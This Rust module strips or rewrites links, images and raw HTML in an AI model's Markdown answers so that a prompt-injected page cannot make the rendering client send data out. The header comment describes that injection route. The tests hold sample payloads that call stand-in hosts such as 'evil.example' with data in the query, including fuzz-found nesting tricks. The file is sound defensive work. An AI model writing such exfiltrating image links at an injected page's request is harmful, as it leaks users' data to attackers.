//! Links and images in an answer, made harmless before the answer leaves the library
//! (OWASP LLM05): a page the model read can ask it to write `![x](https://host/collect?d=…)`,
//! which a Markdown client would fetch on display. Pure.
//!
//! - An image is replaced by `[image: ALT]` unless its URL is relative or its host is allowed.
//! - A link to a host that is not allowed keeps its text and loses its URL; an autolink
//!   (`<https://…>`) becomes its host name.
//! - Raw HTML tags are escaped so that they show as text (`<img src=…>` loads nothing).
//!
//! Allowed hosts come from `LINK_ALLOWED_HOSTS`; a host matches itself and its subdomains.
//! Text inside code spans and code blocks is never changed. URLs written as plain text are left
//! alone: no client fetches them without a click.

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use std::ops::Range;

/// Most rewriting passes before the fallback.
const MAX_PASSES: usize = 8;

/// Rewrites `answer` as the module describes; unchanged text is returned as it came.
///
/// One pass can uncover markup: escaping an HTML-like span (`<!a ![x](http://…)`) turns what it
/// swallowed back into Markdown. So passes repeat until nothing changes; should that not happen
/// within [`MAX_PASSES`], every image opener and tag opener is escaped outright.
pub fn neutralise(answer: &str, allowed_hosts: &[String]) -> String {
    let mut current = answer.to_string();
    for _ in 0..MAX_PASSES {
        let next = neutralise_once(&current, allowed_hosts);
        if next == current {
            return next;
        }
        current = next;
    }
    current.replace("![", "!\\[").replace('<', "&lt;")
}

/// A link or image whose end has not been seen yet.
struct Open {
    range: Range<usize>,
    image: bool,
    url: String,
    link_type: LinkType,
    text: String,
}

fn neutralise_once(answer: &str, allowed_hosts: &[String]) -> String {
    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    // Links and images nest (an image in a link's text, or in another image's alt text).
    let mut open: Vec<Open> = Vec::new();
    let parser = Parser::new_ext(
        answer,
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH,
    );
    for (event, range) in parser.into_offset_iter() {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => open.push(Open {
                range,
                image: true,
                url: dest_url.to_string(),
                link_type: LinkType::Inline,
                text: String::new(),
            }),
            Event::Start(Tag::Link {
                dest_url,
                link_type,
                ..
            }) => open.push(Open {
                range,
                image: false,
                url: dest_url.to_string(),
                link_type,
                text: String::new(),
            }),
            Event::End(TagEnd::Image | TagEnd::Link) => {
                let Some(done) = open.pop() else { continue };
                if let Some(outer) = open.last_mut() {
                    outer.text.push_str(&done.text);
                }
                if allowed(&done.url, allowed_hosts) {
                    continue;
                }
                let replacement = if done.image {
                    format!("[image: {}]", done.text.trim())
                } else if matches!(done.link_type, LinkType::Autolink | LinkType::Email) {
                    host(&done.url).unwrap_or("link").to_string()
                } else {
                    done.text
                };
                edits.push((done.range, replacement));
            }
            Event::Text(text) | Event::Code(text) => {
                if let Some(innermost) = open.last_mut() {
                    innermost.text.push_str(&text);
                }
            }
            // Also inside a link that is kept (its text may hold a tag); inside one that is
            // replaced, the replacement wins.
            Event::Html(html) | Event::InlineHtml(html) => {
                edits.push((range, html.replace('<', "&lt;")));
            }
            _ => {}
        }
    }
    apply(answer, edits)
}

fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    if edits.is_empty() {
        return text.to_string();
    }
    edits.sort_by_key(|(range, _)| range.start);
    let mut out = String::with_capacity(text.len());
    let mut copied_to = 0;
    for (range, replacement) in edits {
        if range.start < copied_to {
            continue; // nested in an earlier edit
        }
        out.push_str(&text[copied_to..range.start]);
        out.push_str(&replacement);
        copied_to = range.end;
    }
    out.push_str(&text[copied_to..]);
    out
}

/// A relative URL (no scheme, not protocol-relative) or one whose host is allowed.
fn allowed(url: &str, allowed_hosts: &[String]) -> bool {
    let url = url.trim();
    let has_scheme = url.split_once(':').is_some_and(|(scheme, _)| {
        !scheme.is_empty()
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
    });
    // Relative only when nothing in it could be read as a host (found by the fuzz suite:
    // `![](![x](http://…))` has the destination `![x](http://…`).
    if !has_scheme && !url.contains("//") && !url.contains('\\') {
        return true;
    }
    let Some(host) = host(url) else {
        return false;
    };
    let host = host.to_ascii_lowercase();
    allowed_hosts.iter().any(|allowed| {
        let allowed = allowed.trim().to_ascii_lowercase();
        !allowed.is_empty() && (host == allowed || host.ends_with(&format!(".{allowed}")))
    })
}

/// The host of an absolute URL (`https://user@host:8080/x` → `host`), or of `mailto:a@host`.
fn host(url: &str) -> Option<&str> {
    let rest = match url.split_once("//") {
        Some((_, rest)) => rest,
        None => url.split_once(':')?.1,
    };
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = host.split(':').next()?;
    (!host.is_empty()).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hosts(list: &[&str]) -> Vec<String> {
        list.iter().map(|h| h.to_string()).collect()
    }

    #[test]
    fn remote_images_and_links_lose_their_urls() {
        let answer = "CO2 is fine ![pixel](http://evil.example/c?d=secret) and see \
                      [the docs](https://evil.example/x) or <https://evil.example/a>.";
        assert_eq!(
            neutralise(answer, &[]),
            "CO2 is fine [image: pixel] and see the docs or evil.example."
        );
    }

    #[test]
    fn allowed_hosts_relative_links_and_code_are_kept() {
        let answer = "See [rooms](user/rooms.md), [help](https://docs.crowdvision.io/a), \
                      ![map](https://cdn.docs.crowdvision.io/m.png) and `![x](http://e/c)`.";
        assert_eq!(neutralise(answer, &hosts(&["docs.crowdvision.io"])), answer);
        let fenced = "```\n![x](http://evil/c)\n```\n";
        assert_eq!(
            neutralise("![](![x](http://evil.example/c))", &[]),
            "[image: ]"
        );
        assert_eq!(
            neutralise("![![x](http://evil.example/c?d=1)](.)", &[]),
            "![[image: x]](.)"
        );
        assert_eq!(
            neutralise("[<img src=\"http://e\">](user/a.md)", &[]),
            "[&lt;img src=\"http://e\">](user/a.md)"
        );
        assert_eq!(neutralise(fenced, &[]), fenced);
    }

    #[test]
    fn markup_uncovered_by_escaping_is_neutralised_too() {
        // Found by the fuzz suite: the HTML-like span swallowed the image on the first pass.
        let answer = "]<!a![x](http://evil.example/c?d=1)<https://evil.example/a>";
        let out = neutralise(answer, &[]);
        assert!(!out.contains("](http"), "{out}");
    }

    #[test]
    fn html_tags_are_shown_not_loaded() {
        assert_eq!(
            neutralise("Hi <img src=\"http://evil/c\"> there", &[]),
            "Hi &lt;img src=\"http://evil/c\"> there"
        );
        let reference = "[click][1]\n\n[1]: http://evil.example/c\n";
        assert!(neutralise(reference, &[]).starts_with("click\n"));
        assert_eq!(
            neutralise("![a](//evil.example/p.png)", &hosts(&["crowdvision.io"])),
            "[image: a]"
        );
    }
}
